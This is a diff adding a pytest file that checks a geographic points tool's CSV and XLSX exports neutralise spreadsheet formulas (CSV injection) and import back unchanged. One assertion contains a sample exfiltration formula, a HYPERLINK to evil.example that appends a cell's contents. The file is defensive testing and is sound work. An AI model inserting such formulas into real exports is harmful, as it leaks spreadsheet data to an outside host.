@@ -1,0 +1,55 @@
+"""Exports never carry a live formula (issue 9, item 4; OWASP "CSV injection"), and read back unchanged.
+
+CSV: text beginning with =, +, -, @, tab or CR gets a leading apostrophe. XLSX: every text cell is a string cell
+(no <f> element anywhere in the sheet). Importing either file again gives the names exactly as stored."""
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+
+import openpyxl
+import pytest
+
+import hostile
+from loaders import cli, export
+from loaders.cells import FORMULA_START
+from loaders.importing import build_plan, read
+from loaders.store import GeoPackageStore
+
+FORMULAS = [n for n in hostile.NAMES if hostile.stored(n).startswith(FORMULA_START)]
+
+
+def test_the_corpus_holds_formulas():
+    assert len(FORMULAS) >= 3 and any(n.startswith("=HYPERLINK") for n in FORMULAS)
+
+
+def test_csv_export_neutralises_every_formula_cell(hostile_store_path, tmp_path):
+    out = tmp_path / "points.csv"
+    assert cli.main(["export", "--format", "csv", "--out", str(out)]) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
+    cells = [value for row in rows for value in row.values() if value]
+    assert not [c for c in cells if c.startswith(FORMULA_START)]  # nothing Excel would run
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" in {row["名称"] for row in rows}
+
+
+def test_xlsx_export_writes_text_as_strings_never_formulas(hostile_store_path, tmp_path):
+    out = tmp_path / "points.xlsx"
+    assert cli.main(["export", "--format", "xlsx", "--out", str(out)]) == 0
+    with zipfile.ZipFile(out) as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
+    assert "<f>" not in sheet and "<f " not in sheet
+    cells = openpyxl.load_workbook(out)["点位"]
+    names = [c for c in cells["C"] if isinstance(c.value, str) and c.value.startswith("=")]
+    assert names and all(c.data_type == "s" for c in names)
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_export_imports_back_unchanged(hostile_store_path, tmp_path, fmt):
+    store = GeoPackageStore(hostile_store_path)
+    points = store.points()
+    data = export.export_bytes(points, fmt, store.units())
+    plan = build_plan(read(data, f"导出.{fmt}"), store)
+    assert plan.problems.empty, plan.report_lines()[:5]
+    assert sorted(plan.good["name"]) == sorted(points["name"])
+    assert set(plan.good["action"]) == {"unchanged"}  # same kind, name and position: nothing to write
